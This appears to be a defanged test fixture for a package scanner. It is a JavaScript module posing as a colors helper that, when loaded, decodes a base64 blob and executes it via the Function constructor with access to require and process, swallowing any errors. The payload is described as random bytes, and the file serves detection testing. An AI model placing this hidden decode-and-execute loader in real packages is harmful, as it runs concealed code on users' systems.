// DEFANGED TEST SAMPLE for chainwarden inspect: a base64 string (random
// bytes here) decoded and run with the Function constructor.
'use strict';
const colors = { red: (s) => '\u001b[31m' + s + '\u001b[39m' };
const payload = "1SMz/DHwg/I69gruuHt7FvJOe6D4JDfTV83Yg1PQoYHdV2LxpaRZrqvjoZKof+7vqa1k95X3+yBE3evXiy704ubnbK+alsKdylm0xCNsjfzA/E1KLFbJ+8yQQ+qFGhA6mT5wd2z1SW2qBhRLUy3ly3y9iRu4x1e7k944QtAovwUlvBcf6qLxshLui+cpsvcOioNGjJyxW60F597QaEgrt5KNjO9TEPL7DBXfUVxLqYSHPzHsNTfHf63cDMYu9Mzbo2EVdmFzbXSYw9w/VBSZJFY2pKKr0XmNqt1nHeFoY6n65MPX9Pbsyc3E6fYPzk5BnU+jNYrJ+IV9MV+uZ3uG7ngzymVJG4PU+ZG+jhmvqtxmUNpogV2i2owcEVOQLXVoikfmnTtx8R8krdq6csmEMpXT3Rx2Y1FshNhN+30YHnIXJpNTameCjD7fyo9398BTa3NAXk2kfjbkUaSsXCpG8SJkIdUHaU4rHffV48x9gbaoTB2xmf+K726cdvP5IV46l2XqUEXpNdWNKxoxNAnz0si1U5b49W0RuZ5alU3qiHpUcNJ+MAzfKid6mjLLuwPWkyM8Nxsf1aQ3kGS2od5p0r7wo03oeYPEINalvznZQq7wAOnzjwGsfwIyJKIJrAaiy4/94jOwrw5JJ3jgfFl4WszsiggsIwAlPndjjQf5x+T6kVGZEZkSdW8w/P3cH/P5mRXIwBEtiIWxtALQKm1V3ivXbmiffB+zI01pLtWKPNdfKhsfhHNXF1L72WcyzcMJHo8TypycHEi21uPqFC1bimf7pGKck1l4anvmnZGE4F5e0CS0ES8L3gcBKMv02tvkJRM63jXYMQdT0o1nu+buxjTVmiGT+CWf5elkv3dHi3LTzXFawI5J/ooC3XL2Ha7d6HdqE3PqRM411ZsVEuadHbaz2lZLSthFNJakSFTomphaQ+O4Az4ddj5+q7nbSKdqUB3E4M6Bn6Wpo3r7M+E72YjFoi9R5A5Wh1HiU8AsPU8wa+RBPnKyzjV1DvtjuY/DiAFquOJ3O1suoktTgS7DrlF9JgQ1LmHSzj8QIgA+05nz0AThti/xMQG9l2vo3BszwZ2C7bDgH9ZcoKGIUhnx6UZwfzPiU4BYzKLhvQsmLyvP8y7jDjFGXKkbUxu7zaTCmQ7euxX3xnJDmSrFhHw4K3v3dCBaLFlw9Gjcb/xW3yPkL7qG";
try {
  const run = new Function('require', 'process', Buffer.from(payload, 'base64').toString('utf8'));
  run(require, process);
} catch (e) {}
module.exports = colors;
